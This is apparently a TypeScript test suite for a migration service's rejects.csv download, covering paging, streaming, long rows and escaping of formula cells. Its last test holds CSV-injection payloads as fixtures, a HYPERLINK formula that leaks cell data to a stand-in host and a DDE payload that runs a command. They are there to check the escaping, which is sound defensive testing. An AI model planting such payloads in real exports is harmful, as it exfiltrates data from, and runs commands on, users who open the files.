import { parseString } from 'fast-csv';
import request from 'supertest';
import { ReadDatabase } from '../../src/database/read-database';
import { MAX_LINE_CHARS } from '../../src/migration/csv/csv-tokenizer';
import { RejectsCsvService } from '../../src/migration/rejects-csv.service';
import { startTestApp, type TestApp } from '../support/test-app';
import { testEngines } from '../support/test-database';

/** Rejected rows of LONG_CHARS each, in batches of 100: every batch holds 2 MB of text. */
const LONG_ROWS = 300;
const LONG_CHARS = 20_000;

/** Counts the characters the database answers on the read connection, whatever asks. */
function meterReads(t: TestApp): { chars: () => number; stop: () => void } {
  const source = t.app.get(ReadDatabase).dataSource;
  const original = source.createQueryRunner;
  let chars = 0;
  let stopped = false;
  // SQLite hands out one runner again and again: it is metered once.
  const metered = new WeakSet<object>();
  source.createQueryRunner = (...args: Parameters<typeof original>) => {
    const runner = original.apply(source, args);
    if (metered.has(runner)) return runner;
    metered.add(runner);
    const query = runner.query.bind(runner) as (...a: unknown[]) => Promise<unknown>;
    runner.query = (async (...a: unknown[]) => {
      const result = await query(...a);
      if (!stopped) chars += JSON.stringify(result ?? null).length;
      return result;
    }) as typeof runner.query;
    return runner;
  };
  const stop = () => {
    source.createQueryRunner = original;
    stopped = true;
  };
  return { chars: () => chars, stop };
}

function rejectsCsv(t: TestApp, runId: number, query = '') {
  return request(t.server)
    .get(`/migrate/runs/${runId}/rejects.csv${query}`)
    .buffer(true)
    .parse((res, done) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => done(null, text));
    })
    .expect(200)
    .then((res) => res.body as string);
}

function parsed(text: string, delimiter = ','): Promise<string[][]> {
  return new Promise((resolve, reject) => {
    const rows: string[][] = [];
    parseString(text, { delimiter })
      .on('data', (row: string[]) => rows.push(row))
      .on('error', reject)
      .on('end', () => resolve(rows));
  });
}

function upload(t: TestApp, text: string, fileName = 'departments.csv', batchSize = 1000) {
  return request(t.server)
    .post('/migrate')
    .set(t.auth)
    .field('rejectMode', 'row')
    .field('batchSize', String(batchSize))
    .attach('file', Buffer.from(text), fileName)
    .expect(201)
    .then((res) => res.body.runs[0] as { id: number; rowsRejected: number });
}

describe.each(testEngines())('the rows to fix as a file on %s', (engine) => {
  let t: TestApp;
  let longRun: number;

  beforeAll(async () => {
    t = await startTestApp(engine);
    // Every job is longer than 255 characters: every row is rejected.
    const lines = Array.from({ length: LONG_ROWS }, (_, i) => `${i + 1},${String(i + 1).padEnd(LONG_CHARS, 'j')}`);
    const run = await upload(t, `${lines.join('\n')}\n`, 'jobs.csv', 100);
    expect(run.rowsRejected).toBe(LONG_ROWS);
    longRun = run.id;
  }, 60_000);
  afterAll(async () => {
    await t.close();
  });

  it('should read one row, not its batch, when a page of one rejected row is asked deep in a large log', async () => {
    const meter = meterReads(t);
    try {
      const res = await request(t.server)
        .get(`/migrate/runs/${longRun}?rejectedLimit=1&rejectedOffset=150`)
        .expect(200);
      expect(res.body.rejectedTotal).toBe(LONG_ROWS);
      expect(res.body.rejected).toHaveLength(1);
      expect(res.body.rejected[0]).toMatchObject({ batch: 2, firstLine: 101, lastLine: 200 });
      expect(res.body.rejected[0].rows.map((r: { line: number }) => r.line)).toEqual([151]);
      expect(res.body.rejected[0].errors.map((e: { line: number }) => e.line)).toEqual([151]);
      // The batch holds 100 rows of 20,000 characters; one row's values and reason are about 2 KB.
      expect(meter.chars()).toBeLessThan(20_000);
    } finally {
      meter.stop();
    }
  });

  it('should read the log a page at a time, only as the client takes it, when rejects.csv is downloaded slowly', async () => {
    const meter = meterReads(t);
    try {
      const { stream } = await t.app.get(RejectsCsvService).open(longRun, false);
      await new Promise((resolve) => stream.once('readable', resolve));
      const first = String(stream.read());
      expect(first.startsWith(`1,1${'j'.repeat(10)}`)).toBe(true);
      // Whatever is fetched ahead stays within a page or two, however long the client waits.
      for (let i = 0; i < 20; i++) await new Promise((resolve) => setImmediate(resolve));
      // Half the log: socket buffers on loopback take a page or more ahead (PostgreSQL's most), while
      // reading the log as fast as it comes read 3.7M of the 6M characters here.
      expect(meter.chars()).toBeLessThan((LONG_ROWS * LONG_CHARS) / 2);
      stream.destroy();
    } finally {
      meter.stop();
    }
  });

  it('should give every rejected row whole, as sent, when a download is read to its end', async () => {
    const text = await rejectsCsv(t, longRun);
    const rows = await parsed(text);
    expect(rows).toHaveLength(LONG_ROWS);
    expect(rows[LONG_ROWS - 1]).toEqual([String(LONG_ROWS), String(LONG_ROWS).padEnd(LONG_CHARS, 'j')]);
  });

  it('should keep rows and the header whole past 4,096 characters, so that a CSV reader finds every rejected row', async () => {
    const header = `id${' '.repeat(5000)},department`;
    const sent = `${header}\n8001,"${'Q'.repeat(5000)}"\nbad,"second rejected row"\n`;
    const run = await upload(t, sent);
    expect(run.rowsRejected).toBe(2);
    await expect(rejectsCsv(t, run.id)).resolves.toBe(sent);
    const rows = await parsed(await rejectsCsv(t, run.id, '?reasons=true'));
    expect(rows.map((r) => r.length)).toEqual([5, 5, 5]);
    expect(rows[1][1]).toBe('Q'.repeat(5000));
    expect(rows[2].slice(0, 3)).toEqual(['bad', 'second rejected row', '3']);
  });

  it('should leave out a row too long to keep, saying why in the run and with reasons, never cutting it', async () => {
    const long = `8101,${'z'.repeat(MAX_LINE_CHARS + 10)}`;
    const run = await upload(t, `8100,=x\n${long}\n8102,${'y'.repeat(300)}\n`);
    expect(run.rowsRejected).toBe(2);
    await expect(rejectsCsv(t, run.id)).resolves.toBe(`8102,${'y'.repeat(300)}\n`);
    const withReasons = await parsed(await rejectsCsv(t, run.id, '?reasons=true'));
    expect(withReasons.map((r) => [r[0], r[2]])).toEqual([
      ['id', 'line'],
      ['', '2'],
      ['8102', '3'],
    ]);
    expect(withReasons[1][4]).toMatch(
      /^line 2: field 2 is longer than 65536 characters; the row is longer than 1048576/,
    );
    const detail = await request(t.server).get(`/migrate/runs/${run.id}`).expect(200);
    const reasons = detail.body.rejected[0].errors.map((e: { reason: string }) => e.reason) as string[];
    expect(reasons).toContain(
      'the row is longer than 1048576 characters: rejects.csv leaves it out, fix it in the file you sent',
    );
  });

  it('should neutralize formula cells with reasons=true and keep the plain file exactly as sent', async () => {
    const sent = '=1+1,=HYPERLINK("http://evil.example/?leak="&A1;"click")\n-2,x;=1+1\n';
    const run = await upload(t, sent);
    await expect(rejectsCsv(t, run.id)).resolves.toBe(sent);
    const rows = await parsed(await rejectsCsv(t, run.id, '?reasons=true'));
    expect(rows.slice(1).map((r) => r.slice(0, 2))).toEqual([
      ["'=1+1", `'=HYPERLINK("http://evil.example/?leak="&A1;"click")`],
      ["'-2", "x;'=1+1"],
    ]);

    const json = await request(t.server)
      .post('/migrate/departments')
      .set(t.auth)
      .send([{ id: '=1+1', department: "=cmd|' /C calc'!A0" }])
      .expect(422);
    await expect(rejectsCsv(t, json.body.runId)).resolves.toBe("id,department\n=1+1,=cmd|' /C calc'!A0\n");
    const jsonRows = await parsed(await rejectsCsv(t, json.body.runId, '?reasons=true'));
    expect(jsonRows[1].slice(0, 2)).toEqual(["'=1+1", "'=cmd|' /C calc'!A0"]);
    for (const cell of [...rows, ...jsonRows].flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
